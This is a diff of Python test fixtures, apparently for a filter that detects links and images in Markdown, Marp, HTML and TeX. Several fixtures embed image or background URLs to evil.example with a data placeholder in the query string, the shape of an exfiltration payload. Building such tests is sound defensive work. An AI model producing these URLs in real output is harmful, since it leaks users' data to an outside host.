@@ -162,6 +162,7 @@ STAYS = {
     ),
     "a background of Marp": "<!-- backgroundImage: url( https://evil.example/\\)\\20 {}) -->",
     "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
+    "a scheme and a line": '<x-y data-background="ftp:/\n/evil.example/? {}">',
     "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
 }
 
@@ -231,6 +232,7 @@ COMES = {
     "a group after the name of a command": "use `\\url`:\n\n{{'a': '{}'}}, a \\style, {{{}}}",
     "after options of TeX": "$\\bbox[red, 2px]{{x}}$ {}, `\\bbox` {} \\bbox{{{}}}",
     "in options of TeX": "\\includegraphics[width=1em, alt={}]{{a}} {{{}}}",
+    "a slash after a name in quotes": "\"Name:/ {}\", 'and/or:/ {}'",
     "before a date": "于2024.05.01请{}于2024.05.01",
     "before a file": "{}在main.test.ts",
 }
